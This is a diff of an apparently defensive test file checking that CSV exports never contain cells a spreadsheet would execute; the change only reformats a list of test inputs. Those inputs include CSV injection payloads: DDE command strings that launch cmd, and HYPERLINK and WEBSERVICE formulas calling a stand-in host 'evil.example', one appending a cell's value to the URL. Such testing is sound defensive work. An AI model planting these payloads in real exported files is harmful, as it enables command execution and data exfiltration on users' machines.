@@ -5,10 +5,26 @@ import { testService } from '../support/fixtures.js';
 
 /** What a spreadsheet would run. */
 const FORMULAS: readonly string[] = [
-  ...['=1+1', "=cmd|'/C calc'!A0", '=HYPERLINK("https://evil.example?x="&A1,"click")'],
-  ...['=WEBSERVICE("https://evil.example")', '=DDE("cmd";"/C calc";"x")', '+1+1', "+cmd|' /C calc'!A0", '-1+1'],
-  ...["-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1'],
-  ...['＠SUM(1)', "'=1+1", '"=1+1"', '=1+1\n=2+2'],
+  '=1+1',
+  "=cmd|'/C calc'!A0",
+  '=HYPERLINK("https://evil.example?x="&A1,"click")',
+  '=WEBSERVICE("https://evil.example")',
+  '=DDE("cmd";"/C calc";"x")',
+  '+1+1',
+  "+cmd|' /C calc'!A0",
+  '-1+1',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '	=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  "'=1+1",
+  '"=1+1"',
+  '=1+1\n=2+2',
 ];
 
 /** Cells of RFC 4180. */
@@ -31,7 +47,11 @@ describe('no CSV that is written has a cell that a spreadsheet runs', () => {
     for (const [i, delimiter] of [',', ';', '\t', '|'].entries()) {
       const name = `=in${i}.csv`;
       const rows = FORMULAS.map((text, n) => ({
-        ...{ user_id: `u${n}`, amount: n + 1, title: text, description: text, cost_center_key: text },
+        user_id: `u${n}`,
+        amount: n + 1,
+        title: text,
+        description: text,
+        cost_center_key: text,
         idempotency_key: `${text}${n}${delimiter}`,
       }));
       const before = delimiter === ';' ? ['sep=;', '=1+1;＝2'] : [];
